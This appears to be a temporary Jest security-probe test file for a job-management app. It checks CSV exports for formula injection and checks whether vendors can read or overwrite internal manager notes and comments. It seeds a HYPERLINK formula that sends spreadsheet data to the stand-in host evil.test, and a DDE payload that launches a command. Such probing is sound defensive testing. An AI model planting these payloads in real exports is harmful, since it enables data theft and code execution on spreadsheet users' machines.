/* Security probe (temporary; delete after run). */
import request from 'supertest';
import { startAppHarness, type AppHarness } from '../support/app-harness';
import { auth } from '../support/api-fixtures';

jest.setTimeout(180_000);

const binary = (res: request.Request) => res.buffer(true).parse((r, done) => {
  const chunks: Buffer[] = [];
  r.on('data', (c: Buffer) => chunks.push(c));
  r.on('end', () => done(null, Buffer.concat(chunks)));
});

describe('probe', () => {
  let h: AppHarness;
  const at = (h24: number) => new Date(Date.now() - 48 * 3600_000 + h24 * 3600_000);
  beforeAll(async () => {
    h = await startAppHarness('embedded');
    const prisma = h.test.db.prisma;
    const { owner, qa } = h.ids.users;
    await prisma.job.create({ data: {
      id: 'probe-1', code: 'PROBE-1', title: '=HYPERLINK("http://evil.test/?d="&B2,"Open")', sopKey: 'store-decoration', sopVersion: 1,
      vendorOrgId: h.ids.orgs['Vendor A']!, ownerId: owner!, workflowId: 'wf-probe-1', status: 'running', assignees: { owner: owner!, qa: qa! },
    } });
    await prisma.stepRun.createMany({ data: [
      { jobId: 'probe-1', nodeId: 'draft', type: 'task', round: 1, status: 'done', activatedAt: at(0), dueAt: at(8), completedAt: at(9), assigneeRole: 'vendor' },
    ] });
  });
  afterAll(async () => { await h?.close(); });

  test('csv export: formula cells', async () => {
    for (const who of ['vendor-a', 'manager'] as const) {
      const res = await binary(request(h.app).get('/api/jobs/export?format=csv').set(auth(await h.login(who))));
      const text = (res.body as Buffer).toString('utf8');
      console.log(who, res.status, res.headers['content-disposition'], JSON.stringify(text.split('\r\n').filter((l) => l.includes('PROBE-1'))));
    }
  });

  test('delay reason label formula into vendor report CSV', async () => {
    const owner = await h.login('owner');
    const put = await request(h.app).put('/api/delay-reasons/vendor-capacity').set(auth(owner)).send({ labelZh: '=1+1', labelEn: '=cmd|\' /C calc\'!A0' });
    console.log('put', put.status, JSON.stringify(put.body));
    const manager = await h.login('manager');
    const late = await request(h.app).post('/api/jobs/probe-1/steps/draft/delay-reason').set(auth(manager)).send({ reason: 'vendor-capacity', note: 'INTERNAL: vendor unreliable, consider dropping' });
    console.log('manager explains', late.status, JSON.stringify(late.body));
    const rows0 = await h.test.db.prisma.stepDelay.findMany({ where: { jobId: 'probe-1' } });
    const res = await binary(request(h.app).get('/api/reports/vendors?format=csv').set(auth(manager)));
    console.log('report', res.status, JSON.stringify((res.body as Buffer).toString('utf8').split('\r\n').slice(0, 3)));
    // vendor reads the manager's note in the timeline
    const vendor = await h.login('vendor-a');
    const ev = await request(h.app).get('/api/jobs/probe-1/events').set(auth(vendor));
    console.log('vendor events', JSON.stringify(ev.body.items.map((e: { type: string; actor: string; data: unknown }) => [e.type, e.actor, e.data])));
    // vendor overwrites the manager's reason
    await new Promise((r) => setTimeout(r, 50));
    const over = await request(h.app).post('/api/jobs/probe-1/steps/draft/delay-reason').set(auth(vendor)).send({ reason: 'scope-change', note: 'customer changed scope' });
    console.log('vendor overwrites', over.status, JSON.stringify(over.body));
    const rows1 = await h.test.db.prisma.stepDelay.findMany({ where: { jobId: 'probe-1' } });
    console.log('before', JSON.stringify(rows0.map((r) => [r.reason, r.actorId, r.createdAt])), 'after', JSON.stringify(rows1.map((r) => [r.reason, r.actorId, r.createdAt])));
  });

  test('people & comments as vendor', async () => {
    const vendor = await h.login('vendor-a');
    const people = await request(h.app).get('/api/jobs/probe-1/people').set(auth(vendor));
    console.log('people', people.status, JSON.stringify(people.body));
    const owner = await h.login('owner');
    const internal = await request(h.app).post('/api/jobs/probe-1/comments').set(auth(owner)).send({ body: 'secret @Vendor', internal: true });
    console.log('internal', internal.status, JSON.stringify(internal.body));
    const list = await request(h.app).get('/api/jobs/probe-1/comments').set(auth(vendor));
    console.log('vendor comments', JSON.stringify(list.body));
    const notes = await request(h.app).get('/api/notifications').set(auth(vendor));
    console.log('vendor notifications', notes.status, JSON.stringify(notes.body).slice(0, 400));
  });
});
